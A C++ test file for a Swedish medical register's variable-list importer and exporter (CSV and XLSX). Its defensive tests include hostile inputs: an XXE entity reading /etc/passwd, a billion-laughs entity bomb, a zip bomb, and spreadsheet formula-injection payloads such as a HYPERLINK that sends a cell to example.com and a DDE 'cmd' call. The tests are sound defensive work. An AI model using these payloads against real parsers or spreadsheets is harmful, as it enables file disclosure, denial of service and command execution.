#include <catch2/catch.hpp>

#include "catalog/errors.h"
#include "importers/template_exporter.h"
#include "importers/variable_import.h"
#include "importers/xlsx_reader.h"
#include "test_support.h"

using namespace regcat;

namespace {

struct Parsed {
  VariableImportOptions opt;
  VariableImportResult result;
};

VariableImportOptions options(bool skipInvalid = false) {
  VariableImportOptions opt;
  opt.register_id = "hjartsvikt";
  opt.dataset = "baslinje";
  opt.skip_invalid = skipInvalid;
  return opt;
}

Parsed parseCsv(const std::string& csv, bool skipInvalid = false) {
  Parsed p;
  p.opt = options(skipInvalid);
  ParseContext ctx{"file.csv", p.opt, p.result};
  parseVariableListCsv(csv, ctx);
  return p;
}

Parsed parseXlsx(const std::string& bytes, bool skipInvalid = false) {
  Parsed p;
  p.opt = options(skipInvalid);
  ParseContext ctx{"file.xlsx", p.opt, p.result};
  parseVariableListXlsx(bytes, ctx);
  return p;
}

template <typename F>
std::string errorOf(F&& f) {
  try {
    f();
  } catch (const Error& e) {
    return e.what();
  }
  return "";
}

using test::list;
using test::var;

const std::string kMain = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

// A workbook as Excel writes one: shared strings, sheets in the order given, each sheet's
// <sheetData> content as given.
std::string workbook(const std::vector<std::pair<std::string, std::string>>& sheets,
                     const std::string& sharedStrings = "", const std::string& sheetPrefix = "") {
  const std::string rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  std::string wb = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"" + kMain +
                   "\" xmlns:r=\"" + rel + "\"><sheets>";
  std::string rels =
      "<?xml version=\"1.0\"?><Relationships "
      "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
  std::vector<std::pair<std::string, std::string>> entries;
  for (size_t i = 0; i < sheets.size(); ++i) {
    const std::string n = std::to_string(i + 1);
    wb += "<sheet name=\"" + sheets[i].first + "\" sheetId=\"" + n + "\" r:id=\"rId" + n + "\"/>";
    rels += "<Relationship Id=\"rId" + n + "\" Type=\"" + rel +
            "/worksheet\" Target=\"/xl/worksheets/sheet" + n + ".xml\"/>";
    const std::string p = sheetPrefix.empty() ? "" : sheetPrefix + ":";
    const std::string ns = sheetPrefix.empty() ? "xmlns" : "xmlns:" + sheetPrefix;
    entries.push_back({"xl/worksheets/sheet" + n + ".xml",
                       "<?xml version=\"1.0\" encoding=\"UTF-8\"?><" + p + "worksheet " + ns +
                           "=\"" + kMain + "\"><" + p + "sheetData>" + sheets[i].second + "</" + p +
                           "sheetData></" + p + "worksheet>"});
  }
  entries.push_back({"xl/workbook.xml", wb + "</sheets></workbook>"});
  entries.push_back({"xl/_rels/workbook.xml.rels", rels + "</Relationships>"});
  if (!sharedStrings.empty())
    entries.push_back({"xl/sharedStrings.xml", "<?xml version=\"1.0\"?><sst xmlns=\"" + kMain +
                                                   "\">" + sharedStrings + "</sst>"});
  return writeZip(entries);
}

std::string inl(const std::string& ref, const std::string& text) {
  return "<c r=\"" + ref + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
}

const char* kSwedishCsv =
    "variabelnamn;etikett;etikett_en;datatyp;enhet;min;max;koder;saknade_värden;obligatorisk;"
    "identifierare;källa;kategori;giltig_från;alias;beräkning;fråga;definition;värdemängd\r\n"
    "vikt;Vikt;Weight;decimaltal;kg;0,5;300;;999=Uppgift saknas | 998=Ej "
    "tillämpligt;ja;none;care-record;background;2024-01-01;weight_kg | vikt_kg;;Vad väger "
    "patienten?;Kroppsvikt i kilogram;\r\n"
    "rokning;Rökning;Smoking;kod;;;;1=Aldrig rökt | 2=Röker | 9=Okänt*;;nej;;patient-reported;"
    "background;;;;;;rokvanor\r\n"
    "rokning_uppf;Rökning vid uppföljning;;Kod;;;;;;;;;;;;;;;rokvanor\r\n"
    ";;;;;;;;;;;;;;;;;;\r\n"
    "diagnos;Huvuddiagnos;;kod;;;;;;JA;;;diagnostics;;;;;;icd10.se\r\n"
    "bmi;BMI;;Decimaltal;kg/m2;;;;;;;computed;;;;vikt/längd^2;;;\r\n"
    "fodd;Födelsedatum;;datum;;;;;;;direct;;;;;;;;\r\n"
    "inskriven;Inskriven;;Datum och tid;;;;;;;;;;;;;;;\r\n"
    "samtycke;Samtycke;;ja/nej;;;;;;1;;;;;;;;;\r\n";

}  // namespace

TEST_CASE("variable list CSV with Swedish columns and words", "[import][csv]") {
  const auto p = parseCsv(kSwedishCsv);
  const auto& doc = p.result.doc;
  CHECK(doc.reg.id == "hjartsvikt");
  REQUIRE(doc.variables.size() == 8);
  REQUIRE(doc.datasets.size() == 1);
  CHECK(doc.datasets[0].id == "baslinje");  // from the options: the file has no dataset column

  const auto& vikt = var(doc, "vikt");
  CHECK(vikt.dataset_id == "baslinje");
  CHECK(vikt.label.sv == "Vikt");
  CHECK(vikt.label.en == "Weight");
  CHECK(vikt.datatype == "decimal");
  CHECK(vikt.unit == "kg");
  CHECK(*vikt.min == Approx(0.5));
  CHECK(*vikt.max == 300);
  REQUIRE(vikt.missing_codes.size() == 2);
  CHECK(vikt.missing_codes[1].code == "998");
  CHECK(vikt.missing_codes[1].label.sv == "Ej tillämpligt");
  CHECK(vikt.mandatory);
  CHECK(vikt.source == "care-record");
  CHECK(vikt.category == "background");
  CHECK(vikt.valid_from == "2024-01-01");
  CHECK(vikt.aliases == std::vector<std::string>{"weight_kg", "vikt_kg"});
  CHECK(vikt.question.sv == "Vad väger patienten?");
  CHECK(vikt.definition.sv == "Kroppsvikt i kilogram");
  CHECK(vikt.origin == "file.csv:2");

  // Inline codes define the list under the codelist id; the next variable reuses it.
  CHECK(var(doc, "rokning").codelist == "hjartsvikt.rokvanor");
  CHECK(var(doc, "rokning_uppf").codelist == "hjartsvikt.rokvanor");
  CHECK(var(doc, "rokning_uppf").datatype == "code");
  REQUIRE(doc.codelists.size() == 1);
  const auto& rok = list(doc, "hjartsvikt.rokvanor");
  REQUIRE(rok.items.size() == 3);
  CHECK(rok.items[0].label.sv == "Aldrig rökt");
  CHECK(rok.items[2].code == "9");
  CHECK(rok.items[2].label.sv == "Okänt");
  CHECK(rok.items[2].is_missing);
  CHECK_FALSE(rok.items[1].is_missing);
  CHECK(rok.name.sv == "Rökning");

  // An id with a dot is already qualified (a shared or external list).
  CHECK(var(doc, "diagnos").codelist == "icd10.se");
  CHECK(var(doc, "diagnos").mandatory);
  CHECK(var(doc, "bmi").calculation == "vikt/längd^2");
  CHECK(var(doc, "bmi").source == "computed");
  CHECK(var(doc, "fodd").identifier_class == "direct");
  CHECK(var(doc, "fodd").datatype == "date");
  CHECK(var(doc, "vikt").identifier_class == "none");
  CHECK(var(doc, "inskriven").datatype == "datetime");
  CHECK(var(doc, "samtycke").datatype == "boolean");
  CHECK(var(doc, "samtycke").mandatory);
}

TEST_CASE("variable list CSV: a Windows-1252 file keeps its Swedish letters", "[import][csv]") {
  // "Längd" and "Rökning" as Swedish Excel on Windows saves them (ä = E4, ö = F6).
  const std::string bytes =
      "name,label_sv,datatype,dataset\r\nlangd,L\xE4ngd,integer,m\xE4tning\r\n"
      "rokning,R\xF6kning,string,m\xE4tning\r\n";
  VariableImportOptions opt = options();
  opt.format = "csv";
  const auto result = parseVariableFile("lista.csv", bytes, opt);
  REQUIRE(result.doc.variables.size() == 2);
  CHECK(result.doc.variables[0].label.sv == "Längd");
  CHECK(result.doc.variables[1].label.sv == "Rökning");
  CHECK(result.doc.variables[1].dataset_id == "mätning");
}

TEST_CASE("variable list CSV errors name file, line and column", "[import][csv]") {
  SECTION("an unknown column") {
    const std::string msg = errorOf([] { parseCsv("name,label_sv,färg\nx,X,röd\n"); });
    CHECK(msg.find("file.csv:1: unknown column 'färg'; the columns are dataset, name, label_sv") ==
          0);
  }
  SECTION("a column given twice") {
    const std::string msg = errorOf([] { parseCsv("name,namn\nx,y\n"); });
    CHECK(msg == "file.csv:1: column 'namn' appears twice (also column 1)");
  }
  SECTION("an unknown datatype") {
    const std::string msg =
        errorOf([] { parseCsv("namn;etikett;datatyp\nvikt;Vikt;heltal\nlangd;Längd;flyttal\n"); });
    CHECK(msg ==
          "file.csv:3: column 'datatyp': 'flyttal' is not one of integer, decimal, "
          "string, date, datetime, boolean, code (heltal, decimaltal, text, datum, datum "
          "och tid, ja/nej, kod)");
  }
  SECTION("duplicate variable names") {
    const std::string msg =
        errorOf([] { parseCsv("name,label_sv,datatype\nvikt,Vikt,decimal\nvikt,Vikt,integer\n"); });
    CHECK(msg == "file.csv:3: column 'name': duplicate variable name 'vikt' in dataset 'baslinje'");
  }
  SECTION("the same code list defined twice differently") {
    const std::string msg = errorOf([] {
      parseCsv("name,label_sv,codelist,codes\na,A,jn,1=Ja | 0=Nej\nb,B,jn,1=Ja | 2=Nej\n");
    });
    CHECK(msg ==
          "file.csv:3: column 'codes': the codes differ from those of code list "
          "'hjartsvikt.jn' as defined at file.csv:2");
  }
  SECTION("a code variable without codes") {
    const std::string msg = errorOf([] { parseCsv("name,label_sv,datatype\nkon,Kön,kod\n"); });
    CHECK(msg ==
          "file.csv:2: column 'codelist': a variable of datatype code needs a codelist or "
          "codes");
  }
  SECTION("bad values") {
    CHECK(errorOf([] { parseCsv("name,label_sv,datatype,min\nx,X,integer,tio\n"); }) ==
          "file.csv:2: column 'min': 'tio' is not a number");
    CHECK(errorOf([] { parseCsv("name,label_sv,datatype,mandatory\nx,X,integer,kanske\n"); }) ==
          "file.csv:2: column 'mandatory': 'kanske' is not ja/nej, yes/no, true/false or 1/0");
    CHECK(errorOf([] { parseCsv("name,label_sv,datatype,valid_from\nx,X,integer,1/2 2024\n"); }) ==
          "file.csv:2: column 'valid_from': '1/2 2024' is not a date (expected YYYY-MM-DD)");
    CHECK(errorOf([] { parseCsv("name,datatype\nx,integer\n"); }) ==
          "file.csv:2: column 'label_sv': a label is required (label_sv or label_en)");
    CHECK(errorOf([] {
            parseCsv("name,label_sv,datatype\nmin vikt,X,integer\n");
          }).find("file.csv:2: column 'name': 'min vikt' is not a valid variable name") == 0);
    CHECK(errorOf([] {
            parseCsv("name,label_sv,datatype,source\nx,X,integer,journal\n");
          }).find("file.csv:2: column 'source': 'journal' is not one of care-record") == 0);
    CHECK(errorOf([] { parseCsv("name,label_sv,,datatype\nx,X,oj,integer\n"); }) ==
          "file.csv:2: a value in column 3, which has no name in the header row");
  }
  SECTION("no name column") {
    CHECK(errorOf([] {
            parseCsv("label_sv,datatype\nX,integer\n");
          }).find("file.csv:1: the header row has no column 'name'") == 0);
  }
}

TEST_CASE("variable list CSV: skip_invalid reports skipped rows", "[import][csv]") {
  const auto p = parseCsv(
      "name,label_sv,datatype\nvikt,Vikt,decimal\nlangd,Längd,flyttal\nvikt,Igen,integer\n"
      "puls,Puls,heltal\n",
      true);
  REQUIRE(p.result.doc.variables.size() == 2);
  CHECK(p.result.doc.variables[1].name == "puls");
  REQUIRE(p.result.skipped.size() == 2);
  CHECK(p.result.skipped[0].where == "file.csv:3");
  CHECK(p.result.skipped[0].reason.find("column 'datatype': 'flyttal'") == 0);
  CHECK(p.result.skipped[1].where == "file.csv:4");
}

TEST_CASE("variable list workbook: shared strings, rich text, numbers and dates",
          "[import][xlsx]") {
  // Shared strings as Excel writes them, one label in two rich-text runs with a phonetic
  // annotation, and a carriage return escaped as _x000D_.
  const std::string sst =
      "<si><t>variabelnamn</t></si><si><t>etikett</t></si><si><t>datatyp</t></si>"
      "<si><r><rPr><b/></rPr><t>Vi</t></r><r><t xml:space=\"preserve\">kt</t></r>"
      "<rPh sb=\"0\" eb=\"1\"><t>ヴィ</t></rPh></si>"
      "<si><t>decimaltal</t></si><si><t>R\xC3\xB6kning</t></si><si><t>Rad1_x000D_\nRad2</t></si>";
  const std::string vars =
      "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>1</v></c>"
      "<c r=\"C1\" t=\"s\"><v>2</v></c>" +
      inl("D1", "enhet") + inl("E1", "min") + inl("F1", "max") + inl("G1", "värdemängd") +
      inl("H1", "obligatorisk") + inl("I1", "giltig_från") + inl("J1", "formulär") +
      inl("K1", "definition") +
      "</row>"
      "<row r=\"2\"><c r=\"A2\" t=\"str\"><v>vikt</v></c><c r=\"B2\" t=\"s\"><v>3</v></c>"
      "<c r=\"C2\" t=\"s\"><v>4</v></c>" +
      inl("D2", "kg") +
      "<c r=\"E2\"><v>30.5</v></c><c r=\"F2\" t=\"n\"><v>250</v></c>"
      "<c r=\"H2\" t=\"b\"><v>1</v></c><c r=\"I2\" s=\"1\"><v>45292</v></c>" +
      inl("J2", "m\xC3\xA4tning") +
      "<c r=\"K2\" t=\"s\"><v>6</v></c></row>"
      // Row 3 left out entirely; row 4 without cell references.
      "<row r=\"4\"><c t=\"inlineStr\"><is><t>rokning</t></is></c><c t=\"s\"><v>5</v></c>"
      "<c t=\"inlineStr\"><is><t>kod</t></is></c><c/><c/><c/>"
      "<c t=\"inlineStr\"><is><t>rokvanor</t></is></c></row>";
  const std::string codes =
      "<row r=\"1\">" + inl("A1", "värdemängd") + inl("B1", "kod") + inl("C1", "etikett") +
      inl("D1", "etikett_en") + inl("E1", "saknat_värde") + inl("F1", "värdemängdens_namn") +
      inl("G1", "giltig_till") + "</row><row r=\"2\">" + inl("A2", "rokvanor") +
      "<c r=\"B2\"><v>1</v></c>" + inl("C2", "Aldrig rökt") + inl("D2", "Never smoked") +
      inl("F2", "Rökvanor") + "</row><row r=\"3\">" + inl("A3", "rokvanor") +
      "<c r=\"B3\"><v>2</v></c>" + inl("C3", "Röker") + inl("D3", "Smoker") +
      "<c r=\"G3\"><v>45657</v></c>" + "</row><row r=\"4\">" + inl("A4", "rokvanor") +
      inl("B4", "9") + inl("C4", "Uppgift saknas") + inl("E4", "ja") + "</row>";
  // Koder before Variabler, and a namespace prefix on the worksheet elements.
  const auto p = parseXlsx(workbook({{"Koder", codes}, {"Variabler", vars}}, sst, "x"));
  const auto& doc = p.result.doc;
  REQUIRE(doc.variables.size() == 2);
  const auto& vikt = doc.variables[0];
  CHECK(vikt.name == "vikt");
  CHECK(vikt.label.sv == "Vikt");
  CHECK(vikt.datatype == "decimal");
  CHECK(vikt.unit == "kg");
  CHECK(*vikt.min == Approx(30.5));
  CHECK(*vikt.max == 250);
  CHECK(vikt.mandatory);
  CHECK(vikt.valid_from == "2024-01-01");  // a date cell arrives as serial 45292
  CHECK(vikt.dataset_id == "mätning");
  CHECK(vikt.definition.sv == "Rad1\r\nRad2");
  CHECK(vikt.origin == "file.xlsx:Variabler!A2");
  const auto& rok = doc.variables[1];
  CHECK(rok.label.sv == "Rökning");
  CHECK(rok.dataset_id == "baslinje");  // no formulär cell: the options' dataset
  CHECK(rok.origin == "file.xlsx:Variabler!A4");
  CHECK(rok.codelist == "hjartsvikt.rokvanor");
  REQUIRE(doc.codelists.size() == 1);
  const auto& list = doc.codelists[0];
  CHECK(list.name.sv == "Rökvanor");
  REQUIRE(list.items.size() == 3);
  CHECK(list.items[0].code == "1");
  CHECK(list.items[0].label.en == "Never smoked");
  CHECK(list.items[1].valid_to == "2024-12-31");
  CHECK(list.items[2].is_missing);
  CHECK(p.result.warnings.empty());
}

TEST_CASE("variable list workbook errors name the sheet and cell", "[import][xlsx]") {
  const std::string header = "<row r=\"1\">" + inl("A1", "name") + inl("B1", "label_sv") +
                             inl("C1", "datatype") + "</row>";
  SECTION("a bad value") {
    const std::string rows = header + "<row r=\"2\">" + inl("A2", "vikt") + inl("B2", "Vikt") +
                             inl("C2", "decimal") + "</row><row r=\"12\">" + inl("A12", "langd") +
                             inl("B12", "Längd") + inl("C12", "flyttal") + "</row>";
    const std::string msg = errorOf([&] { parseXlsx(workbook({{"Variabler", rows}})); });
    CHECK(msg.find("file.xlsx:Variabler!C12: column 'datatype': 'flyttal' is not one of") == 0);
    const auto p = parseXlsx(workbook({{"Variabler", rows}}), true);
    CHECK(p.result.doc.variables.size() == 1);
    REQUIRE(p.result.skipped.size() == 1);
    CHECK(p.result.skipped[0].where == "file.xlsx:Variabler!C12");
  }
  SECTION("an unknown column") {
    const std::string rows = "<row r=\"1\">" + inl("A1", "name") + inl("D1", "Färg") + "</row>";
    CHECK(errorOf([&] {
            parseXlsx(workbook({{"Variables", rows}}));
          }).find("file.xlsx:Variables!D1: unknown column 'Färg'") == 0);
  }
  SECTION("a code item without a code") {
    const std::string codes = "<row r=\"1\">" + inl("A1", "codelist") + inl("B1", "code") +
                              "</row><row r=\"2\">" + inl("A2", "jn") + "</row>";
    CHECK(errorOf([&] {
            parseXlsx(workbook({{"Variabler", header}, {"Koder", codes}}));
          }) == "file.xlsx:Koder!B2: column 'code': the code is required");
  }
  SECTION("a shared string that does not exist") {
    const std::string rows = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>7</v></c></row>";
    CHECK(errorOf([&] {
            parseXlsx(workbook({{"Variabler", rows}}));
          }) == "file.xlsx:Variabler!A1: refers to shared string 7, which does not exist");
  }
  SECTION("no sheet named Variabler: the first sheet, with a warning") {
    const std::string rows = header + "<row r=\"2\">" + inl("A2", "vikt") + inl("B2", "Vikt") +
                             inl("C2", "decimal") + "</row>";
    const auto p = parseXlsx(workbook({{"Blad1", rows}}));
    CHECK(p.result.doc.variables.size() == 1);
    REQUIRE(p.result.warnings.size() == 1);
    CHECK(p.result.warnings[0] ==
          "file.xlsx: no sheet 'Variabler' (or 'Variables'); read the sheet 'Blad1'");
  }
}

TEST_CASE("variable list workbook: hostile and damaged files are refused", "[import][xlsx]") {
  SECTION("not a zip archive") {
    CHECK(errorOf([] {
            parseXlsx(std::string("PK\x03\x04 not really", 15));
          }).find("file.xlsx: not an .xlsx workbook (the zip archive cannot be read") == 0);
  }
  SECTION("a truncated workbook") {
    const std::string wb = workbook({{"Variabler", ""}});
    CHECK(errorOf([&] {
            parseXlsx(wb.substr(0, wb.size() / 2));
          }).find("file.xlsx: not an .xlsx workbook") == 0);
  }
  SECTION("a zip that is not a workbook") {
    const std::string zip = writeZip({{"hej.txt", "hej"}});
    CHECK(errorOf([&] { parseXlsx(zip); }) ==
          "file.xlsx: not an .xlsx workbook: the part xl/workbook.xml is missing");
  }
  SECTION("external entities (XXE)") {
    const std::string xxe =
        "<?xml version=\"1.0\"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "
        "\"file:///etc/passwd\">]><worksheet xmlns=\"" +
        kMain +
        "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&xxe;</t></is>"
        "</c></row></sheetData></worksheet>";
    const std::string zip =
        writeZip({{"xl/workbook.xml", "<workbook xmlns=\"" + kMain +
                                          "\" xmlns:r=\"r\"><sheets><sheet name=\"Variabler\" "
                                          "r:id=\"rId1\"/></sheets></workbook>"},
                  {"xl/_rels/workbook.xml.rels",
                   "<Relationships><Relationship Id=\"rId1\" "
                   "Target=\"worksheets/sheet1.xml\"/></Relationships>"},
                  {"xl/worksheets/sheet1.xml", xxe}});
    CHECK(errorOf([&] { parseXlsx(zip); }) ==
          "file.xlsx:Variabler: a DOCTYPE or entity declaration is not allowed in a workbook "
          "part");
  }
  SECTION("entity expansion (billion laughs)") {
    std::string bomb = "<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY a \"aaaaaaaaaa\">";
    for (char c = 'b'; c <= 'j'; ++c) {
      std::string prev(1, char(c - 1));
      bomb += "<!ENTITY " + std::string(1, c) + " \"";
      for (int i = 0; i < 10; ++i) bomb += "&" + prev + ";";
      bomb += "\">";
    }
    bomb += "]><sst xmlns=\"" + kMain + "\"><si><t>&j;</t></si></sst>";
    const std::string zip = writeZip(
        {{"xl/workbook.xml", "<workbook xmlns=\"" + kMain +
                                 "\" xmlns:r=\"r\"><sheets><sheet name=\"Variabler\" "
                                 "r:id=\"rId1\"/></sheets></workbook>"},
         {"xl/_rels/workbook.xml.rels",
          "<Relationships><Relationship Id=\"rId1\" "
          "Target=\"worksheets/sheet1.xml\"/></Relationships>"},
         {"xl/worksheets/sheet1.xml",
          "<worksheet xmlns=\"" + kMain +
              "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row></sheetData>"
              "</worksheet>"},
         {"xl/sharedStrings.xml", bomb}});
    CHECK(errorOf([&] { parseXlsx(zip); }) ==
          "file.xlsx:xl/sharedStrings.xml: a DOCTYPE or entity declaration is not allowed in a "
          "workbook part");
  }
  SECTION("malformed XML") {
    const std::string zip = workbook({{"Variabler", "<row r=\"1\"><c r=\"A1\"><v>1</row>"}});
    CHECK(errorOf([&] { parseXlsx(zip); }).find("file.xlsx:Variabler:1: not well-formed XML") == 0);
  }
  SECTION("a part larger than the limit (zip bomb)") {
    // 5 MB of one repeated row compresses to a few kilobytes.
    std::string rows;
    while (rows.size() < (size_t(5) << 20)) rows += "<row><c><v>0</v></c></row>";
    const std::string zip = workbook({{"Variabler", rows}});
    CHECK(zip.size() < 100000);
    XlsxLimits limits;
    limits.max_entry_size = size_t(1) << 20;
    XlsxWorkbook wb(zip, "bomb.xlsx", limits);
    CHECK(errorOf([&] { wb.sheet("Variabler"); }) ==
          "bomb.xlsx:xl/worksheets/sheet1.xml: the part is larger than 1 MB uncompressed "
          "(refused as a possible zip bomb)");
  }
}

TEST_CASE("template: the empty template as CSV and workbook", "[import][csv][xlsx]") {
  const RegisterDocument empty;
  const std::string csv = writeVariableListCsv(empty);
  CHECK(csv ==
        "\xEF\xBB\xBF"
        "dataset,name,label_sv,label_en,definition_sv,definition_en,question_sv,question_en,"
        "datatype,unit,min,max,format,codelist,codes,missing_codes,mandatory,source,identifier_"
        "class,category,valid_from,valid_to,aliases,calculation,missing_codes_en,dataset_name\r\n");
  CHECK(parseCsv(csv).result.doc.variables.empty());

  const std::string xlsx = writeVariableListXlsx(empty);
  XlsxWorkbook wb(xlsx, "mall.xlsx");
  CHECK(wb.sheetNames() == std::vector<std::string>{"Variabler", "Koder"});
  const auto vars = wb.sheet("Variabler");
  REQUIRE(vars.rows.size() == 1);
  REQUIRE(vars.rows[0].cells.size() == variableListColumns().size());
  CHECK(vars.rows[0].cells[1].text == "name");
  const auto codes = wb.sheet("Koder");
  REQUIRE(codes.rows.size() == 1);
  REQUIRE(codes.rows[0].cells.size() == codeItemColumns().size());
  CHECK(codes.rows[0].cells[7].text == "codelist_name");
  const auto p = parseXlsx(xlsx);
  CHECK(p.result.doc.variables.empty());
  CHECK(p.result.doc.codelists.empty());
  // The same input gives the same bytes.
  CHECK(writeVariableListXlsx(empty) == xlsx);
}

namespace {

// The Swedish REDCap fixture, with the fields REDCap has no place for filled in.
RegisterDocument richDocument() {
  VariableImportOptions opt;
  opt.register_id = "hjartsvikt";
  VariableImportResult result;
  ParseContext ctx{"hjartsvikt_dictionary.csv", opt, result};
  parseRedcapDictionary(test::readFile(std::string(REGCAT_SOURCE_DIR) +
                                       "/tests/fixtures/redcap/hjartsvikt_dictionary.csv"),
                        ctx);
  RegisterDocument doc = result.doc;
  auto& v = doc.variables[6];  // vikt
  REQUIRE(v.name == "vikt");
  v.label.en = "Weight";
  v.definition.en = "Body weight";
  v.question.en = "What does the patient weigh?";
  v.missing_codes = {{"999", {"Uppgift saknas", ""}}, {"-1", {"Ej mätt", ""}}};
  v.category = "background";
  v.valid_from = "2020-01-01";
  v.valid_to = "2030-12-31";
  v.aliases = {"weight", "vikt_kg"};
  v.min = -5;  // negative numbers stay numbers
  // Text with line breaks and Excel's own escape syntax survives the workbook.
  doc.variables[0].definition.sv = "Rad 1\r\nRad 2 _x0041_ \t slut";
  CodeList icd;
  icd.id = "icd10.se";
  icd.register_id = "hjartsvikt";
  icd.name.sv = "ICD-10-SE";
  icd.system = {"http://hl7.org/fhir/sid/icd-10-se", "1.2.752.116.1.1.1.1.3", "2024"};
  icd.items = {{"I50.0", {"Hjärtsvikt", "Heart failure"}, false, "2020-01-01", ""},
               {"I50.9", {"Hjärtsvikt, ospecificerad", ""}, false, "", "2029-12-31"}};
  doc.codelists.push_back(icd);
  for (auto& x : doc.variables)
    if (x.name == "ntprobnp") {  // a code variable on a list with a dot, for the test's sake
      x.datatype = "code";
      x.codelist = "icd10.se";
    }
  return doc;
}

void checkSameVariables(const RegisterDocument& a, const RegisterDocument& b) {
  REQUIRE(a.variables.size() == b.variables.size());
  for (size_t i = 0; i < a.variables.size(); ++i) {
    INFO(a.variables[i].name);
    CHECK(a.variables[i].sameDefinition(b.variables[i]));
    CHECK(a.variables[i].valid_from == b.variables[i].valid_from);
    CHECK(a.variables[i].valid_to == b.variables[i].valid_to);
  }
  REQUIRE(a.datasets.size() == b.datasets.size());
  for (size_t i = 0; i < a.datasets.size(); ++i) CHECK(a.datasets[i].id == b.datasets[i].id);
}

}  // namespace

TEST_CASE("template: a register's variables round-trip through the workbook", "[import][xlsx]") {
  const RegisterDocument doc = richDocument();
  const auto p = parseXlsx(writeVariableListXlsx(doc));
  const auto& back = p.result.doc;
  checkSameVariables(doc, back);
  REQUIRE(back.codelists.size() == doc.codelists.size());
  for (size_t i = 0; i < doc.codelists.size(); ++i) {
    INFO(doc.codelists[i].id);
    CodeList expected = doc.codelists[i];
    CHECK(expected.sameContent(back.codelists[i]));
  }
  CHECK(var(back, "vikt").missing_codes[1].code == "-1");
  CHECK(*var(back, "vikt").min == -5);
  CHECK(list(back, "icd10.se").items[0].label.en == "Heart failure");
  CHECK(list(back, "icd10.se").system.oid == "1.2.752.116.1.1.1.1.3");
  CHECK(list(back, "hjartsvikt.yesno").items[0].label.en == "Yes");
  CHECK(p.result.skipped.empty());
}

TEST_CASE("template: a register's variables round-trip through CSV", "[import][csv]") {
  const RegisterDocument doc = richDocument();
  const std::string csv = writeVariableListCsv(doc);
  const auto p = parseCsv(csv);
  const auto& back = p.result.doc;
  checkSameVariables(doc, back);
  // Inline codes carry code, Swedish label and the missing mark.
  REQUIRE(back.codelists.size() == doc.codelists.size());
  for (const auto& c : doc.codelists) {
    INFO(c.id);
    const auto& b = list(back, c.id);
    REQUIRE(b.items.size() == c.items.size());
    for (size_t i = 0; i < c.items.size(); ++i) {
      CHECK(b.items[i].code == c.items[i].code);
      CHECK(b.items[i].label.sv == c.items[i].label.sv);
      CHECK(b.items[i].is_missing == c.items[i].is_missing);
    }
  }
}

TEST_CASE("template: cells that a spreadsheet would run as formulas are neutralised",
          "[import][csv][xlsx]") {
  CHECK(neutraliseFormula("=1+1") == "'=1+1");
  CHECK(neutraliseFormula("+46 70 123 45 67") == "'+46 70 123 45 67");
  CHECK(neutraliseFormula("-cmd") == "'-cmd");
  CHECK(neutraliseFormula("@SUM(A1)") == "'@SUM(A1)");
  CHECK(neutraliseFormula("\tx") == "'\tx");
  CHECK(neutraliseFormula("-5") == "-5");
  CHECK(neutraliseFormula("-0.25") == "-0.25");
  CHECK(neutraliseFormula("Vikt") == "Vikt");
  CHECK(neutraliseFormula("'=x") == "''=x");
  CHECK(neutraliseFormula("'quoted") == "'quoted");
  for (const char* s : {"=1+1", "-cmd", "-5", "'=x", "''@y", "'quoted", "", "'"})
    CHECK(stripFormulaGuard(neutraliseFormula(s)) == s);

  RegisterDocument doc;
  doc.reg.id = "hjartsvikt";
  Variable v;
  v.register_id = "hjartsvikt";
  v.dataset_id = "baslinje";
  v.name = "vikt";
  v.label.sv = "=HYPERLINK(\"http://example.com/?\"&A1,\"Klicka här\")";
  v.definition.sv = "+46 70 123 45 67";
  v.question.sv = "@SUM(A1:A9)";
  v.calculation = "-2+3+cmd|' /C calc'!A0";
  v.datatype = "decimal";
  v.min = -5;
  v.format = "'=redan citerad";
  doc.variables.push_back(v);
  Dataset d;
  d.register_id = "hjartsvikt";
  d.id = "baslinje";
  d.name.sv = "baslinje";
  doc.datasets.push_back(d);

  const std::string csv = writeVariableListCsv(doc);
  CHECK(csv.find("\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Klicka här\"\")\"") !=
        std::string::npos);
  CHECK(csv.find(",'+46 70 123 45 67,") != std::string::npos);
  CHECK(csv.find(",'@SUM(A1:A9),") != std::string::npos);
  CHECK(csv.find(",'-2+3+cmd|' /C calc'!A0") != std::string::npos);
  CHECK(csv.find(",-5,") != std::string::npos);
  CHECK(csv.find(",''=redan citerad,") != std::string::npos);
  // No cell of the file starts with a formula character.
  for (size_t i = csv.find('\n'); i != std::string::npos && i + 1 < csv.size();
       i = csv.find_first_of(",\n", i + 1)) {
    const char c = csv[i + 1];
    if (c == '-' && csv.compare(i + 1, 3, "-5,") == 0) continue;
    CHECK_FALSE((c == '=' || c == '+' || c == '-' || c == '@'));
  }
  const auto fromCsv = parseCsv(csv);
  REQUIRE(fromCsv.result.doc.variables.size() == 1);
  CHECK(fromCsv.result.doc.variables[0].sameDefinition(v));

  const std::string xlsx = writeVariableListXlsx(doc);
  XlsxWorkbook wb(xlsx, "f.xlsx");
  const auto sheet = wb.sheet("Variabler");
  REQUIRE(sheet.rows.size() == 2);
  const auto& cells = sheet.rows[1].cells;
  CHECK(cells[2].text.rfind("'=HYPERLINK", 0) == 0);
  CHECK(cells[4].text == "'+46 70 123 45 67");
  CHECK(cells[6].text == "'@SUM(A1:A9)");
  CHECK(cells[10].text == "-5");
  CHECK(cells[10].numeric);
  const auto fromXlsx = parseXlsx(xlsx);
  REQUIRE(fromXlsx.result.doc.variables.size() == 1);
  CHECK(fromXlsx.result.doc.variables[0].sameDefinition(v));
}
